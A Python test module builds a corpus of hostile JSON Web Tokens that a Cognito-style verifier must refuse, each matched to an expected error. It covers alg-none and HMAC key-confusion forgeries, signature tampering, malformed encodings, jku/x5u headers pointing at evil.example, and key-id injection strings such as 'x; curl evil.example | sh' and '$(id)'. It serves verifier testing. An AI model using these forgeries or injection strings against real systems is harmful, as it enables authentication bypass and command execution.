"""Tokens that must not be accepted, by class, each with the error that must refuse it.

All but the forged ones are signed with the pool's own key, so that the check under test is the one that refuses.
"""

import hashlib
import hmac
import json
import time
from collections.abc import Iterator
from typing import Any, NamedTuple

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from poolhouse import tokens
from poolhouse.tokens import TokenError

from tests.unit.tokens import minting
from tests.unit.tokens.minting import CLIENT, ISSUER, KEY_ID, POOL, access_claims, encode, sign, token


class Hostile(NamedTuple):
    """One token of the corpus.

    Attributes:
        kind: the class of attack.
        case: what is special about this one.
        token: the token.
        error: the error class that must refuse it, exactly.
        use: what the verifier under attack takes: access or ID tokens.
    """

    kind: str
    case: str
    token: str
    error: type[TokenError]
    use: str = "access"


def corpus() -> list[Hostile]:
    """Return every hostile token."""
    makers = (
        _algorithm_none,
        _algorithm_confusion,
        _other_algorithms,
        _signatures,
        _structure,
        _encodings,
        _header_json,
        _payload_json,
        _headers,
        _key_ids,
        _issuers,
        _clients,
        _uses,
        _times,
        _claim_types,
        _missing_claims,
        _audiences,
        _permissions,
        _sizes,
    )
    return [hostile for make in makers for hostile in make()]


def _header(**changes: object) -> dict[str, Any]:
    header = {"kid": KEY_ID, "alg": "RS256"} | changes
    return {name: value for name, value in header.items() if value is not None}


def _algorithm_none() -> Iterator[Hostile]:
    payload = encode(access_claims())
    for letters in range(16):
        name = "".join(letter.upper() if letters >> place & 1 else letter for place, letter in enumerate("none"))
        start = f"{encode(_header(alg=name))}.{payload}"
        yield Hostile("none", f"{name}, no signature", f"{start}.", tokens.MalformedTokenError)
        yield Hostile("none", f"{name}, signed", f"{start}.{sign(start)}", tokens.AlgorithmNotAllowedError)
    for name in ("", " none", "none ", "none\0", "nOnE\n", "null", "\u0000none", "n\u043ene"):
        start = f"{encode(_header(alg=name))}.{payload}"
        yield Hostile("none", repr(name), f"{start}.{sign(start)}", tokens.AlgorithmNotAllowedError)


def _algorithm_confusion() -> Iterator[Hostile]:
    public = minting.private_key().public_key()
    jwk = minting.public_jwk(minting.private_key())
    secrets = {
        "PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "PEM without newline": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).strip(),
        "PKCS1 PEM": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PKCS1 DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(jwk).encode(),
        "key set": json.dumps(minting.key_set(jwk)).encode(),
        "modulus": jwk["n"].encode(),
        "modulus bytes": minting.decode(jwk["n"]),
        "key id": KEY_ID.encode(),
        "client id": CLIENT.encode(),
        "empty": b"",
        "secret": b"secret",
    }
    payload = encode(access_claims())
    for name, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)):
        for case, secret in secrets.items():
            start = f"{encode(_header(alg=name))}.{payload}"
            forged = encode(hmac.new(secret, start.encode(), digest).digest())
            yield Hostile("HMAC", f"{name} with {case}", f"{start}.{forged}", tokens.AlgorithmNotAllowedError)
            if name == "HS256":
                start = f"{encode(_header())}.{payload}"
                forged = encode(hmac.new(secret, start.encode(), digest).digest())
                yield Hostile("HMAC", f"as RS256, {case}", f"{start}.{forged}", tokens.InvalidSignatureError)


def _other_algorithms() -> Iterator[Hostile]:
    claims = access_claims()
    key = minting.private_key()
    for name in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        yield Hostile(
            "algorithm",
            f"{name} by the pool's key",
            jwt.encode(claims, key, name, _header(alg=None)),
            tokens.AlgorithmNotAllowedError,
        )
    own: dict[str, Any] = {
        "ES256": ec.generate_private_key(ec.SECP256R1()),
        "ES384": ec.generate_private_key(ec.SECP384R1()),
        "ES512": ec.generate_private_key(ec.SECP521R1()),
        "EdDSA": ed25519.Ed25519PrivateKey.generate(),
    }
    for name, foreign in own.items():
        yield Hostile(
            "algorithm",
            f"{name} by a foreign key",
            jwt.encode(claims, foreign, name, _header(alg=None)),
            tokens.AlgorithmNotAllowedError,
        )
    algorithm: object
    for algorithm in ("rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256", "RSA256", "SHA256withRSA", "RS1",
        "ES256K",
                      "RSA-OAEP", "dir", "A128KW", 256, True, None, ["RS256"], {"RS256": 1}, 1.5):  # fmt: skip
        yield Hostile(
            "algorithm", repr(algorithm), token(header=_header(alg=algorithm)), tokens.AlgorithmNotAllowedError
        )


def _signatures() -> Iterator[Hostile]:
    good = token()
    start, _, signature = good.rpartition(".")
    header, _, payload = start.partition(".")
    raw = minting.decode(signature)
    stranger = minting.private_key("stranger")
    bad = tokens.InvalidSignatureError
    yield Hostile("signature", "stripped", f"{start}.", tokens.MalformedTokenError)
    yield Hostile("signature", "stripped with its dot", start, tokens.MalformedTokenError)
    yield Hostile("signature", "stranger's key", token(key=stranger), bad)
    yield Hostile("signature", "of the payload alone", f"{start}.{sign(payload)}", bad)
    yield Hostile("signature", "of the decoded payload", f"{start}.{sign(minting.decode(payload).decode())}", bad)
    yield Hostile("signature", "without its dot", f"{start}.{sign(header + payload)}", bad)
    yield Hostile("signature", "of another token", f"{start}.{token(access_claims(jti='x')).split('.')[2]}", bad)
    yield Hostile("signature", "zero", f"{start}.{encode(bytes(256))}", bad)
    yield Hostile("signature", "one", f"{start}.{encode(bytes(255) + b'1')}", bad)
    yield Hostile("signature", "all ones", f"{start}.{encode(b'\xff' * 256)}", bad)
    yield Hostile("signature", "leading zero byte", f"{start}.{encode(b'\0' + raw)}", bad)
    yield Hostile("signature", "trailing zero byte", f"{start}.{encode(raw + b'\0')}", bad)
    yield Hostile("signature", "first byte lost", f"{start}.{encode(raw[1:])}", bad)
    yield Hostile("signature", "last byte lost", f"{start}.{encode(raw[:-1])}", bad)
    yield Hostile("signature", "one byte", f"{start}.{encode(b'1')}", bad)
    yield Hostile("signature", "twice", f"{start}.{encode(raw + raw)}", bad)
    yield Hostile("signature", "reversed", f"{start}.{encode(raw[::-1])}", bad)
    modulus = minting.private_key().public_key().public_numbers().n
    value = int.from_bytes(raw)
    yield Hostile("signature", "plus modulus", f"{start}.{encode((value + modulus).to_bytes(257))}", bad)
    yield Hostile("signature", "minus modulus", f"{start}.{encode((modulus - value).to_bytes(256))}", bad)
    # PKCS #1 padding left bare, as a verifier with an exponent of 1 would accept it.
    block = b"\0\1" + b"\xff" * 202 + b"\0" + bytes.fromhex("3031300d060960864801650304020105000420")
    block += hashlib.sha256(start.encode()).digest()
    yield Hostile("signature", "bare padded digest", f"{start}.{encode(block)}", bad)
    for bit in range(0, 2048, 97):
        flipped = bytearray(raw)
        flipped[bit // 8] ^= 1 << bit % 8
        yield Hostile("signature", f"bit {bit} flipped", f"{start}.{encode(bytes(flipped))}", bad)
    changes: dict[str, object] = {"sub": "else", "cognito:groups": ["root"], "exp": 4_000_000_000, "scope": "all"}
    for name, changed in changes.items():
        forged = encode(access_claims(**{name: changed}))
        yield Hostile("signature", f"{name} changed", f"{header}.{forged}.{signature}", bad)
    yield Hostile("signature", "header changed", f"{encode(_header(typ='JWT'))}.{payload}.{signature}", bad)


def _structure() -> Iterator[Hostile]:
    good = token()
    header, payload, signature = good.split(".")
    texts = {
        "empty": "",
        "a space": " ",
        "a dot": ".",
        "two dots": "..",
        "three dots": "...",
        "no header": f".{payload}.{signature}",
        "no payload": f"{header}..{signature}",
        "header alone": header,
        "four parts": f"{good}.{signature}",
        "five parts, as an encrypted token": f"{header}.{payload}.{signature}.{payload}.{signature}",
        "leading dot": f".{good}",
        "trailing dot": f"{good}.",
        "thousands of dots": "." * 16_000,
        "JSON serialisation": json.dumps({"protected": header, "payload": payload, "signature": signature}),
        "not ASCII": f"{good}\u00e9",
        "full-width letter": f"\uff25{good[1:]}",
        "lone surrogate": f"{good}\ud800",
    }
    for case, text in texts.items():
        # A compact object with dots in a URL may have three "parts"; which check refuses it does not matter there.
        yield Hostile("structure", case, text, tokens.MalformedTokenError)
    for case, text in {
        "Bearer in front": f"Bearer {good}",
        "space in front": f" {good}",
        "space behind": f"{good} ",
        "newline behind": f"{good}\n",
        "newline inside": f"{header}.{payload[:10]}\n{payload[10:]}.{signature}",
        "tab inside": f"{header}\t.{payload}.{signature}",
        "NUL behind": f"{good}\0",
        "quoted": f'"{good}"',
        "percent-encoded": f"{header}.{payload}.{signature[:-2]}%3D",
        "two tokens with a comma": f"{header}.{payload}.{signature},{header}",
    }.items():
        yield Hostile("structure", case, text, tokens.InvalidEncodingError)


def _encodings() -> Iterator[Hostile]:
    header, payload, signature = token().split(".")
    parts = {"header": header, "payload": payload, "signature": signature}
    for name, part in parts.items():
        variants = {
            "padded": part + "=",
            "padded twice": part + "==",
            "padded thrice": part + "===",
            "padding inside": part[:8] + "=" + part[8:],
            "standard alphabet": part[:4] + "+/" + part[6:],
            "plus": part[:4] + "+" + part[5:],
            "exclamation mark": part[:4] + "!" + part[5:],
            "space": part[:4] + " " + part[5:],
            "impossible length": part + "A" * ((1 - len(part)) % 4 or 4),
        }
        stray = _with_stray_bits(part)
        if stray:
            variants["stray last bits"] = stray
        for case, variant in variants.items():
            text = ".".join((parts | {name: variant}).values())
            yield Hostile("encoding", f"{name}: {case}", text, tokens.InvalidEncodingError)
    # Signed as they stand, so that only the spelling is wrong.
    for spaces in range(3):
        text = encode(json.dumps(access_claims()) + " " * spaces)
        stray = _with_stray_bits(text)
        if stray:
            start = f"{encode(_header())}.{stray}"
            yield Hostile(
                "encoding", f"signed with stray bits, {spaces}", f"{start}.{sign(start)}", tokens.InvalidEncodingError
            )
        start = f"{encode(_header())}.{text}{'=' * (-len(text) % 4)}"
        if start.endswith("="):
            yield Hostile("encoding", f"signed padded, {spaces}", f"{start}.{sign(start)}", tokens.InvalidEncodingError)


def _with_stray_bits(part: str) -> str | None:
    """Return another spelling of the same bytes, or None when there is none."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    if len(part) % 4 == 0:
        return None
    return part[:-1] + alphabet[alphabet.index(part[-1]) + 1]


_NOT_OBJECTS = ("", " ", "null", "true", "1", '"text"', "[]", "[{}]", "{", "}", "{}{}", "{}x", "{'alg':'RS256'}", "{,}",
                '{"a":}', '{"a":1,}', "\ufeff{}", "{\"a\":\"\n\"}", '{"a":"\\x41"}', '{"a":01}', '{"a":+1}', '{"a":.5}',
                '{"a":0x10}', "// comment\n{}", '{"a":1}/**/', "NaN", "Infinity")  # fmt: skip


def _header_json() -> Iterator[Hostile]:
    for text in _NOT_OBJECTS:
        if text:
            yield Hostile("header JSON", repr(text), token(header=text), tokens.InvalidJsonError)
    names = f'"kid":"{KEY_ID}"'
    for text in (f'{{"alg":"none","alg":"RS256",{names}}}', f'{{"alg":"RS256","alg":"none",{names}}}',
                 f'{{"alg":"RS256",{names},{names}}}', f'{{"alg":"RS256","\\u0061lg":"RS256",{names}}}',
                 f'{{"alg":"RS256",{names},"x":{{"y":1,"y":2}}}}'):  # fmt: skip
        yield Hostile("duplicate", f"header {text}", token(header=text), tokens.DuplicateMemberError)


def _payload_json() -> Iterator[Hostile]:
    for text in _NOT_OBJECTS:
        if text:
            yield Hostile("payload JSON", repr(text), token(text), tokens.InvalidJsonError)
    good = json.dumps(access_claims())
    inside = good[1:-1]
    documents = {
        "UTF-16": good.encode("utf-16"),
        "UTF-16 without mark": good.encode("utf-16-le"),
        "UTF-32": good.encode("utf-32"),
        "UTF-8 with mark": b"\xef\xbb\xbf" + good.encode(),
        "Latin-1": good.replace("ada", "\u00e9").encode("latin-1"),
        "overlong UTF-8": good.encode().replace(b"ada", b"\xc0\xaf"),
        "encoded surrogate": good.encode().replace(b"ada", b"\xed\xa0\x80"),
        "lone high surrogate": good.encode().replace(b"ada", b"\\ud800"),
        "lone low surrogate": good.encode().replace(b"ada", b"\\udfff"),
        "swapped surrogates": good.encode().replace(b"ada", b"\\udc00\\ud800"),
        "lone surrogate in a name": f'{{{inside},"\\ud800":1}}'.encode(),
        "lone surrogate, nested": f'{{{inside},"x":[{{"y":"\\udead"}}]}}'.encode(),
        "raw control character": good.encode().replace(b"ada", b"a\x01a"),
        "cut off": good[:-1].encode(),
        "trailing comma": f"{{{inside},}}".encode(),
        "NaN": f'{{{inside},"x":NaN}}'.encode(),
        "Infinity": f'{{{inside},"x":Infinity}}'.encode(),
        "-Infinity, nested": f'{{{inside},"x":[-Infinity]}}'.encode(),
        "number of 5,000 digits": f'{{{inside},"x":{"9" * 5000}}}'.encode(),
        "nested too deeply": f'{{{inside},"x":{"[" * 5000}{"]" * 5000}}}'.encode(),
        "nested 33 deep": f'{{{inside},"x":{"[" * 33}{"]" * 33}}}'.encode(),
        "nested too deeply behind quotes": f'{{{inside},"\\\\":"\\"","x":{"[" * 33}{"]" * 33}}}'.encode(),
        "nested without an end": f'{{{inside},"x":{"[" * 8500}'.encode(),
        "objects nested too deeply": f'{{{inside},"x":{'{"a":' * 1900}1{"}" * 1900}}}'.encode(),
        "a token in the token": token().encode(),
        "a token as JSON text": json.dumps(token()).encode(),
        "deflated": b"x\x9c" + good.encode(),
    }
    for case, document in documents.items():
        start = f"{encode(_header())}.{encode(document)}"
        yield Hostile("payload JSON", case, f"{start}.{sign(start)}", tokens.InvalidJsonError)
    for name in ("sub", "iss", "exp", "client_id", "token_use", "cognito:groups", "scope", "username", "custom"):
        for order in ("first", "last"):
            twice = f'"{name}":"other"'
            text = f"{{{twice},{inside}}}" if order == "first" else f"{{{inside},{twice}}}"
            if name == "custom":
                text = f"{{{twice},{inside},{twice}}}"
            yield Hostile("duplicate", f"{name}, {order}", token(text), tokens.DuplicateMemberError)
    yield Hostile("duplicate", "escaped name", token(f'{{{inside},"su\\u0062":"x"}}'), tokens.DuplicateMemberError)
    yield Hostile("duplicate", "nested", token(f'{{{inside},"x":{{"y":1,"y":1}}}}'), tokens.DuplicateMemberError)
    yield Hostile("duplicate", "in a list", token(f'{{{inside},"x":[{{"":1,"":1}}]}}'), tokens.DuplicateMemberError)
    yield Hostile("duplicate", "empty name", token(f'{{"":1,{inside},"":1}}'), tokens.DuplicateMemberError)


def _headers() -> Iterator[Hostile]:
    jwk = minting.public_jwk(minting.private_key("stranger"))
    evil = "https://evil.example/.well-known/jwks.json"
    bad = tokens.HeaderNotAllowedError
    cases: dict[str, dict[str, object]] = {
        "crit": {"crit": ["exp"]},
        "crit with its member": {"crit": ["http://example.com/x"], "http://example.com/x": True},
        "crit of b64": {"crit": ["b64"], "b64": True},
        "crit, empty": {"crit": []},
        "crit, text": {"crit": "exp"},
        "crit, number": {"crit": 1},
        "crit, object": {"crit": {}},
        "b64 false": {"b64": False},
        "b64 true": {"b64": True},
        "b64 false in crit": {"crit": ["b64"], "b64": False},
        "jku": {"jku": evil},
        "jku of the issuer": {"jku": f"{ISSUER}/.well-known/jwks.json"},
        "x5u": {"x5u": evil},
        "x5u file": {"x5u": "file:///etc/passwd"},
        "jwk": {"jwk": jwk},
        "jwk of the pool": {"jwk": minting.public_jwk(minting.private_key())},
        "x5c": {"x5c": ["MIIB"]},
        "x5c, empty": {"x5c": []},
        "jku, null in JSON": {"jku": ""},
    }
    for case, extra in cases.items():
        yield Hostile("header", case, token(header=_header() | extra), bad)
        forged = token(header=_header() | extra, key=minting.private_key("stranger"))
        yield Hostile("header", f"{case}, stranger's key", forged, bad)


def _key_ids() -> Iterator[Hostile]:
    bad = tokens.InvalidKeyIdError
    key_id: object
    for key_id in (1, 1.5, True, False, [], [KEY_ID], {}, {"kid": KEY_ID}, "", " ", "\0", f"{KEY_ID}\0", f"{KEY_ID}\n",
                   f" {KEY_ID}", "k" * 129, "k" * 10_000, "cl\u00e9", "\ud83d\ude00", "' OR '1'='1' --", "a\tb",
                   "x; curl evil.example | sh", "\u202e" + KEY_ID):  # fmt: skip
        yield Hostile("key id", repr(key_id)[:200], token(header=_header(kid=key_id)), bad)
    yield Hostile("key id", "null", token(header='{"kid":null,"alg":"RS256"}'), bad)
    yield Hostile("key id", "missing", token(header={"alg": "RS256"}), bad)
    for key_id in ("../../../../dev/null", "/etc/passwd", "https://evil.example/key", "'--", "unknown", KEY_ID[:-1],
                   KEY_ID + "=", KEY_ID.lower(), KEY_ID.swapcase(), "0", "k" * 128, "$(id)", "{{7*7}}", "%00",
                   "__proto__", "keys"):  # fmt: skip
        yield Hostile("key id", repr(key_id)[:200], token(header=_header(kid=key_id)), tokens.UnknownKeyError)


def _issuers() -> Iterator[Hostile]:
    host = "cognito-idp.eu-west-1.amazonaws.com"
    for issuer in (
        "", POOL, "https://evil.example", f"https://evil.example/{POOL}", f"http://{host}/{POOL}", f"{ISSUER}/",
        f"{ISSUER}//", f"{ISSUER}?", f"{ISSUER}#", f"{ISSUER} ", f" {ISSUER}", f"{ISSUER}\0", f"{ISSUER}\n",
        f"{ISSUER}x",
        ISSUER[:-1], ISSUER.upper(), ISSUER.replace("https", "HTTPS"), ISSUER.lower(),
        f"https://{host}/eu-west-1_AbCdEf124",
        f"https://{host}", f"https://{host}/", f"https://{host}:443/{POOL}",
        f"https://{host}./{POOL}", f"https://{host}.evil.example/{POOL}", f"https://evil.example/{host}/{POOL}",
        f"https://{host}@evil.example/{POOL}", f"https://evil.example#{ISSUER}", f"https://evil.example?{ISSUER}",
        f"https://cognito-idp.eu-west-2.amazonaws.com/{POOL}",
        f"https://issuer-cognito-idp.eu-west-2.amazonaws.com/{POOL}",
        f"https://cognito-idp.eu-west-1.amazonaws.com.cn/{POOL}", f"https://cognito-idp-eu-west-1.amazonaws.com/{POOL}",
        f"https://cognito-idp.eu-west-1.amazonavvs.com/{POOL}",
        f"https://c\u043egnito-idp.eu-west-1.amazonaws.com/{POOL}",
        f"https://xcognito-idp.eu-west-1.amazonaws.com/{POOL}", f"https://cognito-idp.eu-west-1.amazonaws.com\\{POOL}",
        f"https://cognito-idp.eu-west-1.amazonaws.com/x/../{POOL}",
        "https://cognito-idp.eu-west-1.amazonaws.com/%65u-west-1_AbCdEf123",
        "http://127.0.0.1:4566/" + POOL, "file:///etc/passwd", "javascript:alert(1)",
    ):  # fmt: skip
        yield Hostile("issuer", repr(issuer), token(access_claims(iss=issuer)), tokens.IssuerNotAllowedError)


def _clients() -> Iterator[Hostile]:
    bad = tokens.ClientIdNotAllowedError
    for client in (
        "",
        "other",
        CLIENT[:-1],
        f"{CLIENT}x",
        CLIENT.upper(),
        f" {CLIENT}",
        f"{CLIENT}\0",
        f"{CLIENT},other",
    ):
        yield Hostile("client", f"access, {client!r}", token(access_claims(client_id=client)), bad)
        yield Hostile("client", f"id, {client!r}", token(minting.id_claims(aud=client)), bad, "id")
    yield Hostile("client", "machine of another client", token(minting.machine_claims(client_id="x", sub="x")), bad)
    several = token(minting.id_claims(aud=[CLIENT, "other"]))
    yield Hostile("client", "id, list", several, tokens.InvalidClaimError, "id")


def _uses() -> Iterator[Hostile]:
    bad = tokens.TokenUseNotAllowedError
    for use in ("", "id", "ID", "Access", "access ", "refresh", "access id"):
        yield Hostile("use", repr(use), token(access_claims(token_use=use)), bad)
    yield Hostile("use", "ID token as access token", token(minting.id_claims()), bad)
    yield Hostile("use", "ID token with a client_id", token(minting.id_claims(client_id=CLIENT)), bad)
    yield Hostile("use", "access token as ID token", token(), bad, "id")
    yield Hostile("use", "access token with aud as ID token", token(access_claims(aud=CLIENT)), bad, "id")


def _times() -> Iterator[Hostile]:
    now = int(time.time())
    for seconds in (0, 1):
        yield Hostile("expired", f"exp {seconds}", token(access_claims(exp=seconds)), tokens.ExpiredTokenError)
    for ago in (86_400, 3_600, 60, 6, 60.5):
        claims = access_claims(exp=now - ago)
        yield Hostile("expired", f"exp {ago} s ago", token(claims), tokens.ExpiredTokenError)
    for ahead in (1_800, 3_600, 86_400, 10**9, 10**10):
        claims = access_claims(nbf=now + ahead, exp=now + 10**10 + 10)
        yield Hostile("not yet valid", f"nbf {ahead}", token(claims), tokens.NotYetValidError)
        claims = access_claims(iat=now + ahead, exp=now + 10**10 + 10)
        yield Hostile("future iat", f"iat {ahead}", token(claims), tokens.IssuedInFutureError)
    yield Hostile("future iat", "fraction", token(access_claims(iat=now + 1_800.25)), tokens.IssuedInFutureError)
    for name in ("exp", "iat", "nbf"):
        # -1 e0 and the like are numbers to JSON; True is 1 to Python; a digit string is a number to int().
        for text in ("-1", "1e999", "-1e999", "1e300", "253402300800", "9" * 40, "9" * 4000, '"4000000000"', '"never"',
                     "true", "false", "null", "[]", "[4000000000]", "{}", '""', '"1e10"', "-0.5"):  # fmt: skip
            document = json.dumps(access_claims(**{name: 4_000_000_000})).replace("4000000000", text, 1)
            yield Hostile("no date", f"{name} {text[:60]}", token(document), tokens.InvalidClaimError)


def _claim_types() -> Iterator[Hostile]:
    value: object
    texts = ("iss", "sub", "token_use", "client_id", "scope", "username", "jti", "origin_jti", "cognito:username")
    for name in texts:
        for value in (1, True, ["x"], {"x": 1}):
            claims = access_claims(**{name: value})
            yield Hostile("claim type", f"{name} {value!r}", token(claims), tokens.InvalidClaimError)
        claims_text = json.dumps(access_claims(**{name: "REPLACED"})).replace('"REPLACED"', "null")
        yield Hostile("claim type", f"{name} null", token(claims_text), tokens.InvalidClaimError)
    for value in ("admin", 1, 0, True, False, "", {}, {"admin": 1}, [1], ["admin", None], [["admin"]], ["admin", 1]):
        claims = access_claims(**{"cognito:groups": value})
        yield Hostile("claim type", f"groups {value!r}", token(claims), tokens.InvalidClaimError)
    for value in (1, True, {}, {"x": CLIENT}, [1], [CLIENT, 1], [[CLIENT]], [None]):
        yield Hostile("claim type", f"aud {value!r}", token(access_claims(aud=value)), tokens.InvalidClaimError)


def _missing_claims() -> Iterator[Hostile]:
    for name in ("iss", "sub", "exp", "iat", "token_use", "client_id"):
        yield Hostile("missing", name, token(access_claims(**{name: None})), tokens.MissingClaimError)
    for name in ("iss", "sub", "exp", "iat", "token_use", "aud"):
        yield Hostile(
            "missing", f"id, {name}", token(minting.id_claims(**{name: None})), tokens.MissingClaimError, "id"
        )
    yield Hostile("missing", "everything", token({}), tokens.MissingClaimError)
    yield Hostile("missing", "names in capitals", token({n.upper(): v for n, v in access_claims().items()}),
                  tokens.MissingClaimError)  # fmt: skip


def _audiences() -> Iterator[Hostile]:
    bad = tokens.AudienceNotAllowedError
    for audience in ("https://other.example", "", [], ["https://other.example"], "other", f"{CLIENT}x", [f"{CLIENT}/"],
                     ["https://other.example", CLIENT], [CLIENT, ""]):  # fmt: skip
        yield Hostile("audience", repr(audience), token(access_claims(aud=audience)), bad)


def _permissions() -> Iterator[Hostile]:
    bad = tokens.InsufficientScopeError
    for scope in (None, "", " ", "profiles", "profiles/read.any", "PROFILES/READ", "profiles/read,openid",
                  "xprofiles/read", "profiles/read2", "openid\tprofiles/read", "openid\nprofiles/read",
                  "openid\u00a0profiles/read", "profiles/read\u00a0"):  # fmt: skip
        yield Hostile("scope", repr(scope), token(access_claims(scope=scope)), bad)
    group = tokens.InsufficientGroupError
    for groups in (
        None,
        [],
        ["Admin"],
        ["admin "],
        ["adm", "in"],
        ["administrators"],
        ["support"],
        ["admin,support"],
        [""],
    ):
        yield Hostile("group", repr(groups), token(access_claims(**{"cognito:groups": groups})), group)


def _sizes() -> Iterator[Hostile]:
    bad = tokens.TokenTooLargeError
    yield Hostile("size", "1 MB, signed", token(access_claims(filler="x" * 750_000)), bad)
    yield Hostile("size", "1 MB of A", "A" * 1_000_000, bad)
    yield Hostile("size", "1 MB of dots", "." * 1_000_000, bad)
    yield Hostile("size", "1 MB signature", f"{token()}{'A' * 1_000_000}", bad)
    yield Hostile("size", "1 MB header", token(header=_header(x="x" * 750_000)), bad)
    yield Hostile("size", "one too many", "A" * (tokens.MAX_TOKEN_LENGTH + 1), bad)
    yield Hostile("size", "100,000 claims", token({str(name): 0 for name in range(100_000)}), bad)
    yield Hostile("size", "1 MB outside ASCII", "\u00e9" * 1_000_000, bad)
